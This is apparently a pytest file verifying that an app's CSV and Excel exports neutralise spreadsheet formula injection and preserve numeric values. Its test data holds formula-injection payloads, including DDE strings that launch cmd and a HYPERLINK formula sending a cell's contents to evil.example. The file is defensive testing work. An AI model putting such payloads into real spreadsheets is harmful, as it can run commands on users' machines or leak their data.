"""Downloads (CSV and Excel, in the app and the CLI) never hand a spreadsheet a formula to run, and keep numbers."""
from __future__ import annotations

import csv
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest

from core import cli
from core.predict import (predict, predict_rows, predictions_csv, predictions_csv_file, predictions_xlsx,
                          save_prediction)
from core.train import TrainSettings, train_dataset
from storage.workspace import csv_bytes

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&B2, "click")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HEADER = '=HYPERLINK("http://evil.example", "x")'


def table(n: int = 40) -> pd.DataFrame:
    rng = np.random.default_rng(0)
    note = [HOSTILE[i % len(HOSTILE)] if i < len(HOSTILE) else f"plain {i}" for i in range(n)]
    note[-1], note[-2] = "-5", "+1.5"  # texts that are just numbers stay as they are
    amount = rng.normal(0, 10, n).round(2)
    amount[0] = -5
    return pd.DataFrame({HEADER: note, "amount": amount, "delta": np.arange(n) - 20,
                         "label": np.where(amount > 0, "up", "down")})


def read_csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_csv_safe(rows: list[list[str]], note_col: int = 0) -> None:
    header, body = rows[0], rows[1:]
    assert header[note_col] == "'" + HEADER
    notes = [r[note_col] for r in body]
    for value in HOSTILE:
        assert "'" + value in notes
        assert value not in notes
    assert "-5" in notes and "+1.5" in notes and "'-5" not in notes
    for row in body:
        assert not row[note_col].startswith(("=", "+", "@", "\t", "\r")) or row[note_col] == "+1.5"
    amount = header.index("amount")
    assert body[0][amount] == "-5.0"
    assert [r[header.index("delta")] for r in body[:2]] == ["-20", "-19"]


def assert_sheet_safe(path) -> None:
    sheet = openpyxl.load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert header[0] == "'" + HEADER
    values = [c.value for c in cells]
    for value in HOSTILE:  # XML keeps no carriage return: Excel reads it back as a line feed
        assert "'" + value.replace("\r", "\n") in values
    amount = header.index("amount")
    first = [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert first[amount] == -5 and isinstance(first[amount], (int, float))
    assert first[header.index("delta")] == -20


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_dataset_export_neutralises_formulas_and_keeps_numbers(ws, fmt):
    ds = ws.save_frame(table(), "hostile")
    with ws.open_export(ds.dataset_id, fmt) as handle:
        data = handle.read()
    if fmt == "csv":
        assert_csv_safe(read_csv_cells(data))
    else:
        path = ws.root / "export.xlsx"
        path.write_bytes(data)
        assert_sheet_safe(path)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cli_export_neutralises_formulas(ws, data_dir, tmp_path, suffix, capsys):
    ws.save_frame(table(), "hostile")
    out = tmp_path / f"hostile{suffix}"
    assert cli.main(["--data-dir", str(data_dir), "--user", "alice", "--json", "export", "hostile",
                     "--out", str(out)]) == 0
    if suffix == ".csv":
        assert_csv_safe(read_csv_cells(out.read_bytes()))
    else:
        assert_sheet_safe(out)


def test_prediction_downloads_neutralise_formulas(ws, tmp_path):
    frame = table(60)
    ds = ws.save_frame(frame, "hostile")
    run_ids = train_dataset(ws, ds.dataset_id, TrainSettings(
        target="label", models=("dt",), folds=2, importance=False, features=("amount", "delta"))).run_ids
    run_id = run_ids["dt"]
    new = frame.drop(columns="label")
    # The batch prediction: streamed CSV and the Excel file made from the saved output dataset.
    source = tmp_path / "new.parquet"
    new.to_parquet(source)
    result = predict_rows(ws, run_id, path=source)
    assert_csv_safe(read_csv_cells(result.out.read_bytes()))
    xlsx = tmp_path / "predictions.xlsx"
    predictions_xlsx(ws, result.prediction_id, xlsx)
    assert_sheet_safe(xlsx)
    assert_csv_safe(read_csv_cells(predictions_csv_file(ws, result.prediction_id, tmp_path / "again.csv").read_bytes()))
    # The kept output (and a dataset saved from it) keeps the user's values as they were; only downloads are neutralised.
    saved = ws.load(save_prediction(ws, result.prediction_id, "saved").dataset_id)
    assert HEADER in saved.columns and set(HOSTILE) <= set(saved[HEADER])
    # The in-memory prediction (one record, a small table) downloads through the same rule.
    assert_csv_safe(read_csv_cells(predictions_csv(predict(ws, run_id, new))))


def test_cli_predict_neutralises_formulas(ws, data_dir, tmp_path, capsys):
    frame = table(60)
    ds = ws.save_frame(frame, "hostile")
    run_id = train_dataset(ws, ds.dataset_id, TrainSettings(
        target="label", models=("dt",), folds=2, importance=False, features=("amount", "delta"))).run_ids["dt"]
    source = tmp_path / "new.parquet"
    frame.drop(columns="label").to_parquet(source)
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"out{suffix}"
        assert cli.main(["--data-dir", str(data_dir), "--user", "alice", "--json", "predict", run_id, str(source),
                         "--out", str(out)]) == 0
        if suffix == ".csv":
            rows = read_csv_cells(out.read_bytes())
            assert rows[0][0] == "'" + HEADER
            notes = [r[0] for r in rows[1:]]
            assert "'=cmd|' /C calc'!A0" in notes and "=cmd|' /C calc'!A0" not in notes
        else:
            sheet = openpyxl.load_workbook(out).active
            assert not [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_frame_csv_download_keeps_numbers_and_neutralises_text():
    """The importance table, the input check and in-memory predictions all download through `csv_bytes`."""
    frame = pd.DataFrame({"feature": ["=1+1", "@A1", "income"], "importance": [-0.5, 0.25, 1.0],
                          "mixed": ["-5", -5, None]})
    rows = read_csv_cells(csv_bytes(frame))
    assert rows == [["feature", "importance", "mixed"], ["'=1+1", "-0.5", "-5"], ["'@A1", "0.25", "-5"],
                    ["income", "1.0", ""]]
